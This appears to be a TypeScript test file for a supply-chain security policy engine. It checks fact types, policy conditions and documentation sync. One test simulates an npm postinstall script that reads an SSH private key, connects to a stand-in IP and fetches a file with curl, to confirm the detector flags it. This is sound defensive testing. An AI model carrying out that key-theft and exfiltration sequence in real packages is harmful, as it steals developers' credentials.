import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { listedFacts } from '../../src/policy/facts/catalogue.ts';
import type { Fact } from '../../src/policy/facts/fact.ts';
import { readCondition } from '../../src/policy/language/check.ts';
import { factsMarkdown, factsTable } from '../../src/report/facts-text.ts';
import { Scenario } from '../pipeline/scenario.ts';

/** Asserts that a value is one a fact can have. */
function assertIs(fact: Fact, value: unknown, path: string): void {
  switch (fact.kind) {
    case 'group':
      assert.deepEqual(Object.keys(value as object).sort(), Object.keys(fact.fields).sort(), path);
      for (const [name, field] of Object.entries(fact.fields))
        assertIs(field, (value as Record<string, unknown>)[name], `${path}.${name}`);
      return;
    case 'list':
      assert.ok(Array.isArray(value), path);
      for (const each of value) assertIs(fact.of as Fact, each, path);
      return;
    case 'bool':
      assert.equal(typeof value, 'boolean', path);
      return;
    case 'string':
      assert.equal(typeof value, 'string', path);
      if (fact.values !== undefined) assert.ok(fact.values.includes(value as string), `${path} is ${value}`);
      return;
    default:
      assert.equal(typeof value, 'number', path);
      assert.ok((value as number) >= fact.range[0] && (value as number) <= fact.range[1], `${path} is ${value}`);
      if (fact.kind === 'int') assert.ok(Number.isInteger(value), path);
  }
}

test('no fact is ever absent: each has a value of its type, of whatever ran', () => {
  const world = new Scenario({ packages: { '/w': 'project', '/w/node_modules/p': 'p' } });
  const npm = world.run('npm install');
  const shell = npm.starts('sh -c x', { cwd: '/w/node_modules/p', env: { npm_lifecycle_event: 'postinstall' } });
  shell.read('/home/u/.ssh/id_ed25519').connect('203.0.113.7', 443);
  shell.starts('curl -o /tmp/x https://example.test/x').create('/tmp/x');
  const seen = world.facts();
  assert.ok(seen.length >= 3);
  for (const facts of seen)
    for (const { path, fact } of listedFacts().filter((one) => !one.path.includes('[]')))
      assertIs(
        fact,
        path.split('.').reduce<unknown>((at, name) => (at as Record<string, unknown>)[name], facts),
        path,
      );
  const worst = seen.find(({ findings }) => findings.some(({ kind }) => kind === 'invariant'));
  assert.ok(worst !== undefined && worst.deviations.length > 0);
  assert.equal(worst.invocation.role, 'lifecycle');
  const { tactics, score } = worst.risk;
  assert.equal(Math.round(Object.values(tactics).reduce((sum, part) => sum + part, 0) * 100), Math.round(score * 100));
});

test('each fact can be named in a condition, and says what it is', () => {
  for (const { path, fact } of listedFacts()) {
    assert.ok(fact.says.length > 3, path);
    const [list, field] = path.split('[].') as [string, string | undefined];
    const asked = field === undefined ? path : `x.${field}`;
    const test = {
      bool: asked,
      string: `${asked} == ${JSON.stringify((fact.kind === 'string' && fact.values?.[0]) || '')}`,
      int: `${asked} >= 1`,
      double: `${asked} >= 0.5`,
      list: `size(${asked}) > 0`,
      group: 'false',
    }[fact.kind];
    if (list.includes('[]')) continue;
    const read = readCondition(field === undefined ? test : `${list}.exists(x, ${test})`);
    assert.ok(!('message' in read), `${path}: ${'message' in read ? read.message : ''}`);
  }
});

test('the table of facts in the documentation is the one of the code', () => {
  const page = readFileSync(join(import.meta.dirname, '../../docs/policy.md'), 'utf8');
  assert.ok(page.includes(factsMarkdown()), 'docs/policy.md is stale: run `node scripts/facts.ts`');
  for (const { path } of listedFacts())
    assert.match(factsTable(), new RegExp(`^${path.replace(/[[\].]/g, '\\$&')} `, 'm'));
});
